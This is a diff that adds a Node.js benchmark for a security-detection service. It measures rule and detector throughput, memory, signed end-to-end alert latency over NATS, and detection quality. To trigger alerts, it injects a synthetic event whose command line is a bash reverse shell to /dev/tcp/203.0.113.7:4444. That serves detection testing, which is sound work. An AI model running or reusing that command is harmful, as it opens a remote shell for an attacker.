@@ -1,0 +1,377 @@
+#!/usr/bin/env node
+// The intelligence figures issue 5 asks for, in one run:
+//  1. events/s through libs/detect with the full shipped rule pack and all five streaming detectors
+//     on one core (rules only, detectors only, both), beside Falco's and Tracee's published figures;
+//  2. heap per 10,000 tracked entities for the detector set;
+//  3. end-to-end p50/p99 from a sentinel's publish to the alert on ALERTS at 20,000 events/s, through
+//     a real nats-server and the built intelligence service (signature verification included);
+//  4. precision, recall and time to detect per attack kind on the labelled scenario generator.
+//
+//   npx node bench/intelligence/bench.mjs [--events 300000] [--rounds 5] [--rate 20000]
+//     [--seconds 20] [--no-e2e] [--no-quality] [--no-build] [--json]
+import { execFileSync, spawn } from 'node:child_process';
+import { cpus, loadavg } from 'node:os';
+import { dirname, join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { createRequire } from 'node:module';
+import { performance } from 'node:perf_hooks';
+import { parseArgs } from 'node:util';
+import { setFlagsFromString } from 'node:v8';
+import { runInNewContext } from 'node:vm';
+import { printQuality, runQualityBench, shippedPackTexts } from './quality.mjs';
+
+const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
+const require = createRequire(join(root, 'package.json'));
+
+const { values: args } = parseArgs({
+  options: {
+    events: { type: 'string', default: '300000' },
+    rounds: { type: 'string', default: '5' },
+    rate: { type: 'string', default: '20000' },
+    seconds: { type: 'string', default: '20' },
+    'no-e2e': { type: 'boolean', default: false },
+    'no-quality': { type: 'boolean', default: false },
+    'no-build': { type: 'boolean', default: false },
+    json: { type: 'boolean', default: false },
+  },
+});
+const EVENTS = Number(args.events);
+const ROUNDS = Number(args.rounds);
+const TARGET_EPS = 300_000;
+const TARGET_P99_MS = 100;
+
+if (!args['no-build']) {
+  execFileSync('npx', ['tsc', '-b', 'apps/intelligence', 'libs/testkit'], {
+    cwd: root,
+    stdio: 'inherit',
+  });
+}
+setFlagsFromString('--expose-gc');
+const gc = runInNewContext('gc');
+const detect = require(join(root, 'libs', 'detect', 'dist', 'index.js'));
+
+const results = { machine: machine() };
+
+function machine() {
+  return {
+    cpu: cpus()[0]?.model ?? 'unknown',
+    cores: cpus().length,
+    node: process.version,
+    load: loadavg()
+      .map((l) => l.toFixed(2))
+      .join(' '),
+    time: new Date().toISOString(),
+  };
+}
+
+function median(values) {
+  const sorted = [...values].sort((a, b) => a - b);
+  return sorted[Math.floor(sorted.length / 2)];
+}
+
+// 1. Throughput on one core: scenario events (70% flows, 20% DNS, 10% process launches, attacks).
+function throughput() {
+  const scenario = detect.generateScenario({
+    seed: 2,
+    durationSec: Math.max(600, Math.ceil(EVENTS / 100)),
+    backgroundPerSecond: 100,
+    attacksPerKind: 5,
+  });
+  const events = [];
+  for (const event of scenario.events()) {
+    events.push(event);
+    if (events.length === EVENTS) break;
+  }
+  const pack = detect.loadRulePack(shippedPackTexts());
+  if (pack.rejected.length > 0) throw new Error(`shipped pack rejected rules: ${pack.rejected}`);
+  const matcher = new detect.RuleSetMatcher(pack.rules);
+  const run = (withRules, withDetectors) => {
+    const rates = [];
+    let outputs = 0;
+    for (let round = 0; round <= ROUNDS; round++) {
+      const detectors = new detect.DetectorSet();
+      let count = 0;
+      const onMatch = () => count++;
+      const start = performance.now();
+      for (let i = 0; i < events.length; i++) {
+        const event = events[i];
+        if (withRules) matcher.match(event, onMatch);
+        if (withDetectors) count += detectors.observe(event).length;
+      }
+      const seconds = (performance.now() - start) / 1000;
+      if (round > 0) rates.push(events.length / seconds); // round 0 warms up
+      outputs = count;
+    }
+    return {
+      eventsPerSecond: Math.round(median(rates)),
+      min: Math.round(Math.min(...rates)),
+      max: Math.round(Math.max(...rates)),
+      outputs,
+    };
+  };
+  return {
+    events: events.length,
+    rules: pack.rules.length,
+    rulesOnly: run(true, false),
+    detectorsOnly: run(false, true),
+    full: run(true, true),
+  };
+}
+
+// 2. Heap per 10,000 tracked entities: each pod connects out (beacon pairs), is refused (scan
+// state), and resolves names under its own domain (DNS tunnel pairs); the new-edge sketches are fixed.
+function memory() {
+  const ENTITIES = 10_000;
+  gc();
+  const before = process.memoryUsage().heapUsed;
+  const detectors = new detect.DetectorSet();
+  const t0 = 1_700_000_000_000_000_000n;
+  let n = 0;
+  for (let i = 0; i < ENTITIES; i++) {
+    const src = {
+      ip: `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`,
+      workload: `ns/pod-${i}@sa`,
+    };
+    for (let k = 0; k < 4; k++) {
+      const timeNs = t0 + BigInt(n++) * 1_000_000n;
+      detectors.observe(
+        detect.flowEvent({
+          id: `m${n}`,
+          timeNs,
+          src,
+          dst: { ip: `198.51.100.${k}`, port: 443 },
+          bytesOut: 300,
+        }),
+      );
+      detectors.observe(
+        detect.flowEvent({
+          id: `r${n}`,
+          timeNs,
+          src,
+          dst: { ip: `10.200.0.${k}`, port: 22 },
+          activity: 5,
+        }),
+      );
+      detectors.observe(
+        detect.dnsEvent({ id: `d${n}`, timeNs, src, hostname: `x${k}.svc${i}.example.com` }),
+      );
+    }
+  }
+  gc();
+  const bytes = process.memoryUsage().heapUsed - before;
+  return {
+    entities: ENTITIES,
+    heapBytes: bytes,
+    bytesPerEntity: Math.round(bytes / ENTITIES),
+    stateSizes: detectors.stateSizes(),
+  };
+}
+
+// 3. End to end through NATS and the built service.
+async function endToEnd() {
+  const { startNatsServer } = require('@omega/testkit');
+  const { connectBus, provision, publishBytes, subjects } = require('@omega/bus');
+  const { generateHybridSecretKey, HybridSigner, loadMlDsaBackend } = require('@omega/crypto');
+  const { Alert, EventBatch, Identity } = require('@omega/proto');
+  const {
+    encodeIdentityRecord,
+    identityRecordKey,
+    keyIndexKey,
+    signEventBatch,
+  } = require('@omega/trust-client');
+  const { createLogger } = require('@omega/runtime');
+  const rate = Number(args.rate);
+  const seconds = Number(args.seconds);
+  const BATCH = 200;
+  const batchesPerSecond = rate / BATCH;
+
+  const nats = await startNatsServer();
+  const logger = createLogger({ service: 'bench', level: 'silent' });
+  const bus = await connectBus({ servers: nats.url, name: 'bench-sentinel', logger });
+  await provision(bus, {
+    streams: ['TELEMETRY', 'ALERTS', 'DECEPTION', 'DLQ'],
+    kv: ['omega_identities', 'omega_policy'],
+  });
+  const mlDsa = await loadMlDsaBackend('liboqs');
+  const signer = new HybridSigner(await generateHybridSecretKey(mlDsa), mlDsa);
+  const sender = 'omega://local/sentinel/bench-node';
+  const nowNs = BigInt(Date.now()) * 1_000_000n;
+  const identity = Identity.fromPartial({
+    id: sender,
+    kind: 2,
+    status: 1,
+    keys: [
+      {
+        ...signer.publicKey,
+        notBeforeTimeNs: nowNs - 3_600_000_000_000n,
+        notAfterTimeNs: nowNs + 3_600_000_000_000n,
+      },
+    ],
+    issueTimeNs: nowNs - 3_600_000_000_000n,
+    expireTimeNs: nowNs + 3_600_000_000_000n,
+  });
+  const kv = await bus.kv('omega_identities');
+  await kv.put(
+    identityRecordKey(sender),
+    encodeIdentityRecord({ identity, currentSerial: '01', revokedSerials: [] }),
+  );
+  await kv.put(keyIndexKey(signer.keyId), sender);
+
+  const service = spawn(process.execPath, [join(root, 'apps', 'intelligence', 'dist', 'main.js')], {
+    env: {
+      PATH: process.env.PATH,
+      HOME: process.env.HOME,
+      OMEGA_NATS_SERVERS: nats.url,
+      OMEGA_GRPC_HOST: '127.0.0.1',
+      OMEGA_GRPC_PORT: '0',
+      OMEGA_HTTP_HOST: '127.0.0.1',
+      OMEGA_HTTP_PORT: '0',
+      OMEGA_LOG_LEVEL: 'warn',
+      OMEGA_INTELLIGENCE_AUDIT_ALERTS: 'false',
+    },
+    stdio: ['ignore', 'inherit', 'inherit'],
+  });
+  // Ready once its durable consumer exists.
+  for (const deadline = Date.now() + 30_000; ;) {
+    const info = await bus.jsm.consumers.info('TELEMETRY', 'intelligence').catch(() => null);
+    if (info) break;
+    if (Date.now() > deadline) throw new Error('intelligence did not start');
+    await new Promise((r) => setTimeout(r, 100));
+  }
+
+  // Background events of a scenario; one reverse shell per batch, in a pod of its own.
+  const scenario = detect.generateScenario({
+    seed: 3,
+    durationSec: 3600,
+    backgroundPerSecond: 100,
+    attacksPerKind: 0,
+    benignPollers: 0,
+  });
+  const background = scenario.events();
+  const publishedAt = new Map();
+  const latencies = [];
+  const sub = bus.nc.subscribe('omega.alerts.>');
+  const receiving = (async () => {
+    for await (const msg of sub) {
+      const alert = Alert.decode(msg.data);
+      const sequence = alert.evidence[0]?.batch?.sequence;
+      const at = sequence === undefined ? undefined : publishedAt.get(sequence);
+      if (at !== undefined && alert.ruleId === 'sigma:0b6a6f0e-3f7c-4d4e-9a51-1c2d3e4f5a02') {
+        latencies.push(performance.now() - at);
+        publishedAt.delete(sequence);
+      }
+    }
+  })();
+
+  const total = Math.round(batchesPerSecond * seconds);
+  const start = performance.now();
+  let signMs = 0;
+  for (let b = 1; b <= total; b++) {
+    const due = start + ((b - 1) * 1000) / batchesPerSecond;
+    const wait = due - performance.now();
+    if (wait > 0) await new Promise((r) => setTimeout(r, wait));
+    const events = [];
+    for (let i = 0; i < BATCH - 1; i++) events.push(background.next().value);
+    const shell = detect.eventFromSigmaFields('process_creation', {
+      'omega.namespace': 'bench',
+      'omega.pod': `shell-${b}`,
+      'omega.node': 'bench-node',
+      Image: '/bin/bash',
+      CommandLine: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
+    });
+    shell.id = `shell-${b}`;
+    shell.timeNs = events[0].timeNs;
+    events.push(shell);
+    const batch = EventBatch.fromPartial({
+      sender: { id: sender, keyId: signer.keyId },
+      sessionId: 'bench',
+      sequence: BigInt(b),
+      createdTimeNs: BigInt(Date.now()) * 1_000_000n,
+      events,
+    });
+    const t = performance.now();
+    const bytes = signEventBatch(signer, batch);
+    signMs += performance.now() - t;
+    publishedAt.set(BigInt(b), performance.now());
+    void publishBytes(bus, subjects.telemetry('process', 'bench-node'), bytes, {
+      msgId: `bench:${b}`,
+    });
+  }
+  const sentSeconds = (performance.now() - start) / 1000;
+  for (const deadline = Date.now() + 30_000; latencies.length < total && Date.now() < deadline;) {
+    await new Promise((r) => setTimeout(r, 100));
+  }
+  sub.unsubscribe();
+  await receiving;
+  service.kill('SIGTERM');
+  await new Promise((r) => service.once('exit', r));
+  await bus.drain();
+  await nats.stop();
+  latencies.sort((a, b) => a - b);
+  const pct = (p) => latencies[Math.min(latencies.length - 1, Math.floor(p * latencies.length))];
+  return {
+    offeredEventsPerSecond: rate,
+    achievedEventsPerSecond: Math.round((total * BATCH) / sentSeconds),
+    batches: total,
+    alertsSeen: latencies.length,
+    p50Ms: Number(pct(0.5)?.toFixed(1)),
+    p99Ms: Number(pct(0.99)?.toFixed(1)),
+    maxMs: Number(latencies.at(-1)?.toFixed(1)),
+    signMsPerBatch: Number((signMs / total).toFixed(2)),
+  };
+}
+
+results.throughput = throughput();
+results.memory = memory();
+if (!args['no-e2e']) results.endToEnd = await endToEnd();
+if (!args['no-quality'])
+  results.quality = runQualityBench({ seed: 1, hours: 8, rate: 10, attacks: 5 });
+results.machine.loadAfter = loadavg()
+  .map((l) => l.toFixed(2))
+  .join(' ');
+
+if (args.json) {
+  console.log(JSON.stringify(results, (_, v) => (typeof v === 'bigint' ? String(v) : v), 2));
+} else {
+  const m = results.machine;
+  const fmt = (n) => n.toLocaleString('en');
+  console.log(
+    `bench/intelligence — ${m.time}, ${m.cores} × ${m.cpu}, Node ${m.node}, load ${m.load} → ${m.loadAfter}`,
+  );
+  const t = results.throughput;
+  console.log(
+    `\nThroughput on one core: ${fmt(t.events)} scenario events, ${t.rules} shipped Sigma rules, 5 detectors, median of ${ROUNDS} rounds`,
+  );
+  console.log('| what | events/s | min–max | outputs per round |');
+  console.log('|---|---:|---|---:|');
+  for (const [name, r] of [
+    ['rules only', t.rulesOnly],
+    ['detectors only', t.detectorsOnly],
+    ['rules + detectors (full)', t.full],
+  ]) {
+    console.log(
+      `| ${name} | ${fmt(r.eventsPerSecond)} | ${fmt(r.min)}–${fmt(r.max)} | ${fmt(r.outputs)} |`,
+    );
+  }
+  console.log(`| target (issue 5) | ${fmt(TARGET_EPS)} | | |`);
+  console.log(
+    '| Falco, whole sensor at ~38% of a core (published, quoted in issue 5) | ~4,400 | | |',
+  );
+  console.log(
+    '| Tracee, whole sensor at ~1.5 cores (published, quoted in issue 5) | ~50,000 | | |',
+  );
+  const mem = results.memory;
+  console.log(
+    `\nMemory: ${fmt(mem.heapBytes)} bytes of heap for ${fmt(mem.entities)} tracked entities = ${fmt(mem.bytesPerEntity)} bytes per entity; state entries ${JSON.stringify(mem.stateSizes)}`,
+  );
+  if (results.endToEnd) {
+    const e = results.endToEnd;
+    console.log(
+      `\nEnd to end (sentinel publish → alert on ALERTS), nats-server + built intelligence, signed batches of 200:`,
+    );
+    console.log(
+      `offered ${fmt(e.offeredEventsPerSecond)} events/s, achieved ${fmt(e.achievedEventsPerSecond)}; ${e.alertsSeen}/${e.batches} alerts seen; p50 ${e.p50Ms} ms, p99 ${e.p99Ms} ms, max ${e.maxMs} ms (target p99 < ${TARGET_P99_MS} ms); signing ${e.signMsPerBatch} ms per batch on the publisher`,
+    );
+  }
+  if (results.quality) printQuality(results.quality);
+}
